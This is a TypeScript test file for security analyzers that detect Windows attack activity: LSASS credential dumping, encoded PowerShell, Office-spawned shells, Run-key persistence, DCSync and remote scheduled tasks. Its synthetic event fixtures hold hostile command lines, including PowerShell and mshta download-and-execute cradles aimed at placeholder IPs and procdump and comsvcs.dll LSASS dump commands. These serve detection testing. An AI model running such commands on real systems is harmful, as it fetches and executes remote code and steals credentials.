/**
 * The Windows analyzers: exact rows on small Security, Sysmon and
 * PowerShell events written here, one day of April 2030 each, and on the
 * OTRF Security-Datasets the known attack of each file comes first.
 */

import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import type { SqlValue } from "../engine/types.ts";
import type { Workbench } from "../engine/workbench.ts";
import { onEveryDatabase } from "./helpers/datasets.ts";

const SYSMON = "Microsoft-Windows-Sysmon/Operational";

/** An event on `day` of April 2030, flattened as the OTRF exports are. */
function event(
  day: number,
  time: string,
  channel: string,
  id: number,
  host: string,
  fields: Record<string, string>,
): string {
  return JSON.stringify({
    Hostname: host,
    Channel: channel,
    EventID: id,
    TimeCreated: `2030-04-0${day}T${time}.000Z`,
    ...fields,
  });
}

/** A Gummer time stamp on `day` of April 2030. */
const stamp = (day: number, time: string) => `2030-04-0${day} ${time}.000`;

/** The day's window, as the analyzers take it. */
const dayOf = (day: number) => ({
  since: `2030-04-0${day}`,
  until: `2030-04-0${day + 1}`,
});

/** PowerShell's -EncodedCommand form of a script: Base64 of UTF-16LE. */
const encode = (script: string) =>
  Buffer.from(script, "utf16le").toString("base64");

const LSASS = "C:\\Windows\\system32\\lsass.exe";
const EVIL = "C:\\Tools\\evil.exe";
const DEFENDER =
  "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe";
const PROCDUMP = "C:\\Tools\\procdump64.exe";
const DUPLICATOR = "C:\\Tools\\dup.exe";
const RUNDLL32 = "C:\\Windows\\System32\\rundll32.exe";
const NTDLL = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4";
const PROCDUMP_LINE =
  "procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp";
const COMSVCS_LINE =
  "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, #24 612 C:\\Temp\\o.dmp full";

const access = (time: string, source: string, mask: string, trace: string) =>
  event(1, time, SYSMON, 10, "WS1.corp.example", {
    SourceImage: source,
    TargetImage: LSASS,
    GrantedAccess: mask,
    CallTrace: trace,
  });

const LSASS_EVENTS = [
  // Injected code reading LSASS: a call stack from unbacked memory.
  access("10:00:00", EVIL, "0x1010", `${NTDLL}|UNKNOWN(00000000002A1B3C)`),
  access("10:00:01", EVIL, "0x1010", `${NTDLL}|UNKNOWN(00000000002A1B3C)`),
  // Defender: a query-only handle, then one that can read.
  access("10:05:00", DEFENDER, "0x1000", NTDLL),
  access("10:06:00", DEFENDER, "0x1410", NTDLL),
  // PROCESS_DUP_HANDLE alone: enough to copy a handle that can read.
  access("10:07:00", DUPLICATOR, "0x40", NTDLL),
  // procdump: the command line, then the handle, dumped through dbghelp.
  event(1, "10:10:00", SYSMON, 1, "WS1.corp.example", {
    Image: PROCDUMP,
    CommandLine: PROCDUMP_LINE,
    ParentImage: "C:\\Windows\\System32\\cmd.exe",
    User: "CORP\\admin",
  }),
  access(
    "10:10:01",
    PROCDUMP,
    "0x1FFFFF",
    `${NTDLL}|C:\\Windows\\SYSTEM32\\dbghelp.dll+1234`,
  ),
  // Full access to another process: not LSASS.
  event(1, "10:20:00", SYSMON, 10, "WS1.corp.example", {
    SourceImage: EVIL,
    TargetImage: "C:\\Windows\\System32\\svchost.exe",
    GrantedAccess: "0x1fffff",
  }),
  // comsvcs.dll's MiniDump by ordinal, seen by the Security log only.
  event(1, "10:30:00", "Security", 4688, "WS2.corp.example", {
    NewProcessName: RUNDLL32,
    CommandLine: COMSVCS_LINE,
    SubjectUserName: "admin",
  }),
];

const POWERSHELL =
  "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const CRADLE =
  "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.1/a')";
const CRADLE_LINE = `powershell.exe -NoP -W Hidden -EncodedCommand ${
  encode(CRADLE)
}`;
const DATE_LINE = `"${POWERSHELL}" -ec ${encode("Get-Date")}`;
const DASH_LINE = `powershell \u2013e ${encode("Write-Output 1")}`;
const HOST_APP_LINE = `powershell.exe -ep bypass -w 1 -e ${
  encode("Get-Process")
}`;
const SCRIPT_LINE = `Start-Process powershell -ArgumentList '-nop -enc ${
  encode("Get-Service")
}'`;

const started = (time: string, line: string, user: string) =>
  event(2, time, SYSMON, 1, "WS3.corp.example", {
    Image: POWERSHELL,
    CommandLine: line,
    User: `CORP\\${user}`,
  });

const ENCODED_EVENTS = [
  started("09:00:00", CRADLE_LINE, "bob"),
  event(2, "09:00:01", "Security", 4688, "WS3.corp.example", {
    NewProcessName: POWERSHELL,
    CommandLine: CRADLE_LINE,
    SubjectUserName: "bob",
  }),
  started("09:10:00", DATE_LINE, "svc"),
  started("09:20:00", DASH_LINE, "svc"),
  // -ExecutionPolicy is not -EncodedCommand; a value that is not Base64.
  started(
    "09:30:00",
    "powershell.exe -ExecutionPolicy Bypass -File x.ps1",
    "svc",
  ),
  started("09:31:00", "powershell.exe -enc notbase64!!", "svc"),
  event(2, "09:40:00", "Windows PowerShell", 400, "WS3.corp.example", {
    Message: "Engine state is changed from None to Available. \r\n\r\n" +
      "Details: \r\n\tNewEngineState=Available\r\n\t" +
      `HostApplication=${HOST_APP_LINE}\r\n\tEngineVersion=5.1`,
  }),
  event(
    2,
    "09:50:00",
    "Microsoft-Windows-PowerShell/Operational",
    4104,
    "WS3.corp.example",
    { ScriptBlockText: `$p = 'x'\n${SCRIPT_LINE}` },
  ),
];

const WINWORD =
  "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const EXCEL = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE";
const OUTLOOK =
  "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";
const CMD = "C:\\Windows\\System32\\cmd.exe";
const MSHTA = "C:\\Windows\\System32\\mshta.exe";
const MACRO_LINE =
  'cmd.exe /c powershell -w hidden -c "iwr http://198.51.100.2/p.ps1 | iex"';
const HTA_LINE = "mshta.exe http://198.51.100.2/a.hta";
const DLL_LINE =
  "rundll32.exe C:\\Users\\erin\\AppData\\Local\\Temp\\a.dll,Start";

const child = (
  time: string,
  parent: string,
  image: string,
  line: string,
  user = "carol",
) =>
  event(3, time, SYSMON, 1, "WS4.corp.example", {
    ParentImage: parent,
    Image: image,
    CommandLine: line,
    User: `CORP\\${user}`,
  });

const OFFICE_EVENTS = [
  child("08:00:00", WINWORD, CMD, MACRO_LINE),
  child("08:05:00", WINWORD, CMD, MACRO_LINE),
  event(3, "08:10:00", "Security", 4688, "WS4.corp.example", {
    ParentProcessName: EXCEL,
    NewProcessName: MSHTA,
    CommandLine: HTA_LINE,
    SubjectUserName: "dave",
  }),
  // Printing, a shell from Explorer, and a name that only ends in cmd.exe.
  child("08:20:00", WINWORD, "C:\\Windows\\splwow64.exe", "splwow64.exe 8192"),
  child("08:30:00", "C:\\Windows\\explorer.exe", CMD, "cmd.exe"),
  child("08:40:00", WINWORD, "C:\\Tools\\xcmd.exe", "xcmd.exe"),
  child("08:50:00", OUTLOOK, RUNDLL32, DLL_LINE, "erin"),
];

const RUN = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run";
const USER_RUN =
  "HKU\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
const WINLOGON =
  "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon";
const RUN_ONCE =
  "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce";
const REG = "C:\\Windows\\System32\\reg.exe";
const ONEDRIVE_SETUP =
  "C:\\Program Files\\Microsoft OneDrive\\OneDriveSetup.exe";
const ONEDRIVE =
  '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background';
const UPDATER = "C:\\Users\\bob\\AppData\\Roaming\\upd.exe";
const USERINIT =
  "C:\\Windows\\system32\\userinit.exe,C:\\Users\\Public\\x.exe,";
const SETUP = "cmd.exe /c C:\\ProgramData\\s.bat";

const setValue = (
  time: string,
  host: string,
  image: string,
  target: string,
  details: string,
) =>
  event(4, time, SYSMON, 13, host, {
    EventType: "SetValue",
    Image: image,
    TargetObject: target,
    Details: details,
  });

const RUN_KEY_EVENTS = [
  setValue("07:00:00", "WS5", REG, `${USER_RUN}\\Updater`, UPDATER),
  setValue("07:10:00", "WS5", ONEDRIVE_SETUP, `${RUN}\\OneDrive`, ONEDRIVE),
  setValue("07:11:00", "WS6", ONEDRIVE_SETUP, `${RUN}\\OneDrive`, ONEDRIVE),
  setValue("07:20:00", "WS5", POWERSHELL, `${WINLOGON}\\Userinit`, USERINIT),
  // Neither is an autostart value.
  setValue(
    "07:30:00",
    "WS5",
    REG,
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Runtime\\Foo",
    "1",
  ),
  setValue("07:31:00", "WS5", REG, `${WINLOGON}\\AutoRestartShell`, "1"),
  event(4, "07:40:00", "Security", 4657, "WS5", {
    ObjectName: RUN_ONCE,
    ObjectValueName: "Setup",
    NewValue: SETUP,
    OperationType: "%%1904",
    ProcessName: CMD,
    SubjectUserName: "admin",
  }),
  event(4, "07:50:00", SYSMON, 12, "WS5", {
    EventType: "DeleteValue",
    Image: REG,
    TargetObject: `${USER_RUN}\\Updater`,
  }),
];

const GET_CHANGES = "{1131F6AA-9C07-11D1-F79F-00C04FC2DCD2}";
const GET_CHANGES_ALL = "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}";
const FILTERED_SET = "{89e95b76-444d-4c62-991a-0facbeda640c}";
const DOMAIN_DNS = "{19195a5b-6da0-11d0-afd3-00c04fd930c9}";

const replication = (
  time: string,
  user: string,
  logon: string,
  right: string,
) =>
  event(5, time, "Security", 4662, "DC1.corp.example", {
    SubjectUserName: user,
    SubjectDomainName: "CORP",
    SubjectLogonId: logon,
    ObjectServer: "DS",
    AccessMask: "0x100",
    Properties: `%%7688\r\n\t\t${right}\r\n\t${DOMAIN_DNS}\r\n`,
  });

const DCSYNC_EVENTS = [
  event(5, "05:59:59", "Security", 4624, "DC1.corp.example", {
    TargetUserName: "alice",
    TargetLogonId: "0x3E7ABC",
    IpAddress: "10.0.0.5",
    LogonType: "3",
  }),
  replication("06:00:00", "alice", "0x3e7abc", GET_CHANGES),
  replication("06:00:01", "alice", "0x3e7abc", GET_CHANGES_ALL),
  replication("06:10:00", "DC2$", "0x3e7", GET_CHANGES_ALL),
  replication("06:20:00", "MSOL_0123abcd", "0x999", FILTERED_SET),
  replication(
    "06:30:00",
    "bob",
    "0x888",
    "{bf967aba-0de6-11d0-a285-00aa003049e2}",
  ),
];

const TASK_COMMAND = "-w hidden -enc SQBFAFgA";

/** A task's XML as the Task Scheduler writes it into 4698. */
function taskXml(command: string, args: string, user: string): string {
  return '<?xml version="1.0" encoding="UTF-16"?>\n<Task version="1.2">\n' +
    '  <Actions Context="Author">\n    <Exec>\n' +
    `      <Command>${command}</Command>\n` +
    (args ? `      <Arguments>${args}</Arguments>\n` : "") +
    "    </Exec>\n  </Actions>\n  <Principals>\n" +
    `    <Principal id="Author">\n      <UserId>${user}</UserId>\n` +
    "    </Principal>\n  </Principals>\n</Task>";
}

const schtasks = (time: string, line: string) =>
  event(6, time, SYSMON, 1, "WS9.corp.example", {
    Image: "C:\\Windows\\System32\\schtasks.exe",
    CommandLine: line,
    User: "CORP\\admin",
  });

const TASK_EVENTS = [
  // From WS9 to SRV1: the command, the network logon, the registration.
  schtasks(
    "11:00:00",
    `schtasks /create /s SRV1 /tn Updater /tr "powershell ${TASK_COMMAND}" ` +
      "/ru SYSTEM /sc onstart",
  ),
  event(6, "11:00:00", "Security", 4624, "SRV1.corp.example", {
    TargetUserName: "admin",
    TargetLogonId: "0x5555",
    IpAddress: "10.0.0.9",
    LogonType: "3",
  }),
  event(6, "11:00:01", "Security", 4698, "SRV1.corp.example", {
    SubjectUserName: "admin",
    SubjectDomainName: "CORP",
    SubjectLogonId: "0x5555",
    TaskName: "\\Updater",
    TaskContent: taskXml(POWERSHELL, TASK_COMMAND, "S-1-5-18"),
  }),
  // A user's own task, from an interactive logon.
  event(6, "12:00:00", "Security", 4624, "WS9.corp.example", {
    TargetUserName: "bob",
    TargetLogonId: "0x777",
    LogonType: "2",
  }),
  event(6, "12:00:05", "Security", 4698, "WS9.corp.example", {
    SubjectUserName: "bob",
    SubjectLogonId: "0x777",
    TaskName: "\\Backup",
    TaskContent: taskXml(
      "C:\\Program Files\\Backup\\backup.exe",
      "",
      "CORP\\bob",
    ),
  }),
  // Left out: a machine account, SYSTEM, a /s inside the quoted /tr,
  // and a query.
  event(6, "12:10:00", "Security", 4698, "SRV1.corp.example", {
    SubjectUserName: "SRV1$",
    TaskName: "\\Machine",
  }),
  event(6, "12:20:00", "Security", 4702, "SRV1.corp.example", {
    SubjectUserName: "SYSTEM",
    TaskName: "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan",
  }),
  schtasks(
    "12:30:00",
    'schtasks /create /tn Local /tr "cmd /s /c echo" /sc daily',
  ),
  schtasks("12:40:00", "schtasks /query /s SRV1"),
  // A task sent to a computer whose own log is not here.
  schtasks(
    "13:00:00",
    'schtasks.exe /Create /S 10.0.0.20 /TN "\\Tasks\\Rogue" ' +
      '/TR "C:\\Users\\Public\\r.exe" /RU SYSTEM',
  ),
];

async function rows(
  bench: Workbench,
  aid: string,
  params: Record<string, string | number>,
): Promise<SqlValue[][]> {
  return (await bench.analyze(aid, { params })).rows;
}

/** The real datasets lie in 2020; the fixtures in 2030. */
const REAL = { until: "2030-01-01" };

onEveryDatabase("windows analyzers", [
  { collector: "windows", paths: ["otrf-windows-json"] },
  {
    collector: "windows",
    files: {
      "fixtures.json": [
        ...LSASS_EVENTS,
        ...ENCODED_EVENTS,
        ...OFFICE_EVENTS,
        ...RUN_KEY_EVENTS,
        ...DCSYNC_EVENTS,
        ...TASK_EVENTS,
      ],
    },
  },
], async (bench, _kind, t) => {
  await t.step("lsass_access: fixture rows", async () => {
    const result = await bench.analyze("lsass_access", { params: dayOf(1) });
    assert.deepEqual(result.columns, [
      "host",
      "process_image",
      "score",
      "evidence",
      "read_handles",
      "masks",
      "dump_commands",
      "command_line",
      "users",
      "first_seen",
      "last_seen",
    ]);
    assert.deepEqual(result.rows, [
      [
        "WS1.corp.example",
        PROCDUMP,
        3,
        "read-capable handle, dump in call stack, dump command line",
        1,
        "0x1fffff",
        1,
        PROCDUMP_LINE,
        "admin",
        stamp(1, "10:10:00"),
        stamp(1, "10:10:01"),
      ],
      [
        "WS1.corp.example",
        EVIL,
        2,
        "read-capable handle, unbacked code in call stack",
        2,
        "0x1010",
        0,
        null,
        null,
        stamp(1, "10:00:00"),
        stamp(1, "10:00:01"),
      ],
      [
        "WS1.corp.example",
        DEFENDER,
        1,
        "read-capable handle",
        1,
        "0x1410",
        0,
        null,
        null,
        stamp(1, "10:06:00"),
        stamp(1, "10:06:00"),
      ],
      [
        "WS1.corp.example",
        DUPLICATOR,
        1,
        "read-capable handle",
        1,
        "0x40",
        0,
        null,
        null,
        stamp(1, "10:07:00"),
        stamp(1, "10:07:00"),
      ],
      [
        "WS2.corp.example",
        RUNDLL32,
        1,
        "dump command line",
        0,
        null,
        1,
        COMSVCS_LINE,
        "admin",
        stamp(1, "10:30:00"),
        stamp(1, "10:30:00"),
      ],
    ]);
  });

  await t.step("lsass_access: the comsvcs dump on WORKSTATION5", async () => {
    assert.deepEqual(await rows(bench, "lsass_access", REAL), [[
      "WORKSTATION5",
      "C:\\Windows\\System32\\rundll32.exe",
      3,
      "read-capable handle, dump in call stack, dump command line",
      2,
      "0x1410, 0x1fffff",
      2,
      '"C:\\Windows\\System32\\rundll32.exe" ' +
      "C:\\windows\\System32\\comsvcs.dll MiniDump 756 " +
      "C:\\Users\\wardog\\AppData\\Local\\Temp\\lsass-comsvcs.dmp full",
      "wardog",
      "2020-10-18 07:50:05.910",
      "2020-10-18 07:50:06.025",
    ]]);
  });

  await t.step("encoded_powershell: fixture rows, decoded", async () => {
    const result = await bench.analyze("encoded_powershell", {
      params: dayOf(2),
    });
    assert.deepEqual(result.columns, [
      "host",
      "command",
      "decoded",
      "traits",
      "score",
      "events",
      "event_ids",
      "users",
      "first_seen",
      "last_seen",
    ]);
    const host = "WS3.corp.example";
    assert.deepEqual(result.rows, [
      [
        host,
        CRADLE_LINE,
        CRADLE,
        "hidden window, download, invoke-expression",
        3,
        2,
        "1, 4688",
        "bob",
        stamp(2, "09:00:00"),
        stamp(2, "09:00:01"),
      ],
      [
        host,
        HOST_APP_LINE,
        "Get-Process",
        "hidden window, execution policy bypass",
        2,
        1,
        "400",
        null,
        stamp(2, "09:40:00"),
        stamp(2, "09:40:00"),
      ],
      [
        host,
        DATE_LINE,
        "Get-Date",
        "",
        0,
        1,
        "1",
        "svc",
        stamp(2, "09:10:00"),
        stamp(2, "09:10:00"),
      ],
      [
        host,
        DASH_LINE,
        "Write-Output 1",
        "",
        0,
        1,
        "1",
        "svc",
        stamp(2, "09:20:00"),
        stamp(2, "09:20:00"),
      ],
      [
        host,
        SCRIPT_LINE,
        "Get-Service",
        "",
        0,
        1,
        "4104",
        null,
        stamp(2, "09:50:00"),
        stamp(2, "09:50:00"),
      ],
    ]);
  });

  await t.step(
    "encoded_powershell: Empire's stager on WORKSTATION5",
    async () => {
      const found = await rows(bench, "encoded_powershell", REAL);
      assert.equal(found.length, 1);
      const [host, command, decoded, traits, score, events, ids, users] =
        found[0];
      assert.equal(host, "WORKSTATION5.mordor.local");
      assert.match(String(command), /powershell\.exe -noP -sta -w 1 -enc /);
      assert.match(String(decoded), /System\.Management\.Automation\.Amsi/);
      assert.equal(
        traits,
        "hidden window, download, invoke-expression, in-memory code, " +
          "logging or AMSI tampering",
      );
      assert.deepEqual([score, events, ids, users], [
        5,
        135,
        "800, 4103",
        "pgustavo",
      ]);
    },
  );

  await t.step("office_child_shell: fixture rows", async () => {
    const result = await bench.analyze("office_child_shell", {
      params: dayOf(3),
    });
    assert.deepEqual(result.columns, [
      "host",
      "parent_image",
      "process_image",
      "command_line",
      "username",
      "traits",
      "score",
      "events",
      "first_seen",
      "last_seen",
    ]);
    const host = "WS4.corp.example";
    assert.deepEqual(result.rows, [
      [
        host,
        WINWORD,
        CMD,
        MACRO_LINE,
        "carol",
        "hidden window, download, invoke-expression",
        3,
        2,
        stamp(3, "08:00:00"),
        stamp(3, "08:05:00"),
      ],
      [
        host,
        EXCEL,
        MSHTA,
        HTA_LINE,
        "dave",
        "download",
        1,
        1,
        stamp(3, "08:10:00"),
        stamp(3, "08:10:00"),
      ],
      [
        host,
        OUTLOOK,
        RUNDLL32,
        DLL_LINE,
        "erin",
        "user-writable path",
        1,
        1,
        stamp(3, "08:50:00"),
        stamp(3, "08:50:00"),
      ],
    ]);
  });

  await t.step("office_child_shell: none in the OTRF files", async () => {
    // The four attacks start from PowerShell and Empire, not documents.
    assert.deepEqual(await rows(bench, "office_child_shell", REAL), []);
  });

  await t.step("run_key_persistence: fixture rows", async () => {
    const result = await bench.analyze("run_key_persistence", {
      params: dayOf(4),
    });
    assert.deepEqual(result.columns, [
      "host",
      "key",
      "value_name",
      "data",
      "action",
      "process_image",
      "users",
      "traits",
      "score",
      "hosts",
      "events",
      "first_seen",
      "last_seen",
    ]);
    const once = (time: string) => [1, stamp(4, time), stamp(4, time)];
    assert.deepEqual(result.rows, [
      [
        "WS5",
        RUN_ONCE,
        "Setup",
        SETUP,
        "CreateValue",
        CMD,
        "admin",
        "written by cmd.exe, starts a script host, user-writable path",
        3,
        1,
        ...once("07:40:00"),
      ],
      [
        "WS5",
        USER_RUN,
        "Updater",
        UPDATER,
        "SetValue",
        REG,
        null,
        "written by reg.exe, user-writable path",
        2,
        1,
        ...once("07:00:00"),
      ],
      [
        "WS5",
        WINLOGON,
        "Userinit",
        USERINIT,
        "SetValue",
        POWERSHELL,
        null,
        "written by powershell.exe, user-writable path",
        2,
        1,
        ...once("07:20:00"),
      ],
      [
        "WS5",
        USER_RUN,
        "Updater",
        null,
        "DeleteValue",
        REG,
        null,
        "written by reg.exe",
        1,
        1,
        ...once("07:50:00"),
      ],
      [
        "WS5",
        RUN,
        "OneDrive",
        ONEDRIVE,
        "SetValue",
        ONEDRIVE_SETUP,
        null,
        "",
        0,
        2,
        ...once("07:10:00"),
      ],
      [
        "WS6",
        RUN,
        "OneDrive",
        ONEDRIVE,
        "SetValue",
        ONEDRIVE_SETUP,
        null,
        "",
        0,
        2,
        ...once("07:11:00"),
      ],
    ]);
  });

  await t.step("run_key_persistence: Empire's Updater key", async () => {
    const found = await rows(bench, "run_key_persistence", REAL);
    assert.equal(found.length, 1);
    assert.deepEqual(found[0].slice(0, 3), [
      "WORKSTATION5.mordor.local",
      RUN,
      "Updater",
    ]);
    assert.match(String(found[0][3]), /powershell -Win Hidden -enc \$x/);
    assert.deepEqual(found[0].slice(4), [
      "SetValue",
      POWERSHELL,
      null,
      "written by powershell.exe, starts a script host, hidden window",
      3,
      1,
      1,
      "2020-07-22 04:19:05.132",
      "2020-07-22 04:19:05.132",
    ]);
  });

  await t.step("dcsync: fixture rows", async () => {
    const result = await bench.analyze("dcsync", { params: dayOf(5) });
    assert.deepEqual(result.columns, [
      "host",
      "username",
      "user_domain",
      "rights_used",
      "rights",
      "events",
      "source_ip",
      "logon_type",
      "first_seen",
      "last_seen",
    ]);
    assert.deepEqual(result.rows, [
      [
        "DC1.corp.example",
        "alice",
        "CORP",
        2,
        "Get-Changes, Get-Changes-All",
        2,
        "10.0.0.5",
        3,
        stamp(5, "06:00:00"),
        stamp(5, "06:00:01"),
      ],
      [
        "DC1.corp.example",
        "MSOL_0123abcd",
        "CORP",
        1,
        "Get-Changes-In-Filtered-Set",
        1,
        null,
        null,
        stamp(5, "06:20:00"),
        stamp(5, "06:20:00"),
      ],
    ]);
  });

  await t.step("dcsync: pgustavo against MORDORDC", async () => {
    assert.deepEqual(await rows(bench, "dcsync", REAL), [[
      "MORDORDC.theshire.local",
      "pgustavo",
      "THESHIRE",
      2,
      "Get-Changes, Get-Changes-All",
      3,
      "172.18.39.5",
      3,
      "2020-08-05 06:10:03.798",
      "2020-08-05 06:10:03.799",
    ]]);
  });

  await t.step("remote_scheduled_task: fixture rows", async () => {
    const result = await bench.analyze("remote_scheduled_task", {
      params: dayOf(6),
    });
    assert.deepEqual(result.columns, [
      "host",
      "task_name",
      "command",
      "run_as",
      "registered_by",
      "source_ip",
      "source_host",
      "evidence",
      "score",
      "events",
      "first_seen",
      "last_seen",
    ]);
    assert.deepEqual(result.rows, [
      [
        "SRV1.corp.example",
        "\\Updater",
        `${POWERSHELL} ${TASK_COMMAND}`,
        "SYSTEM",
        "admin",
        "10.0.0.9",
        "WS9.corp.example",
        "created, network logon, schtasks /s, starts a script host, " +
        "hidden window",
        4,
        2,
        stamp(6, "11:00:00"),
        stamp(6, "11:00:01"),
      ],
      [
        "10.0.0.20",
        "\\Tasks\\Rogue",
        "C:\\Users\\Public\\r.exe",
        "SYSTEM",
        "admin",
        null,
        "WS9.corp.example",
        "schtasks /s, user-writable path",
        2,
        1,
        stamp(6, "13:00:00"),
        stamp(6, "13:00:00"),
      ],
      [
        "WS9.corp.example",
        "\\Backup",
        "C:\\Program Files\\Backup\\backup.exe",
        "CORP\\bob",
        "bob",
        null,
        null,
        "created",
        0,
        1,
        stamp(6, "12:00:05"),
        stamp(6, "12:00:05"),
      ],
    ]);
  });

  await t.step(
    "remote_scheduled_task: EventCacheManager on WORKSTATION6",
    async () => {
      const found = await rows(bench, "remote_scheduled_task", REAL);
      assert.deepEqual(found[0], [
        "WORKSTATION6.theshire.local",
        "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\EventCacheManager",
        "C:\\Windows\\system32\\cmd.exe /C C:\\Windows\\System32\\notepad.exe",
        "SYSTEM",
        "pgustavo",
        "172.18.39.5",
        "WORKSTATION5.theshire.local",
        "created, network logon, schtasks /s, starts a script host",
        3,
        5,
        "2020-12-19 07:00:22.176",
        "2020-12-19 07:00:22.264",
      ]);
    },
  );

  await t.step("limit keeps the first rows of the ranking", async () => {
    for (
      const [aid, day] of [["lsass_access", 1], [
        "run_key_persistence",
        4,
      ]] as const
    ) {
      const all = await rows(bench, aid, dayOf(day));
      const two = await rows(bench, aid, { ...dayOf(day), limit: 2 });
      assert.deepEqual(two, all.slice(0, 2), aid);
    }
  });
});
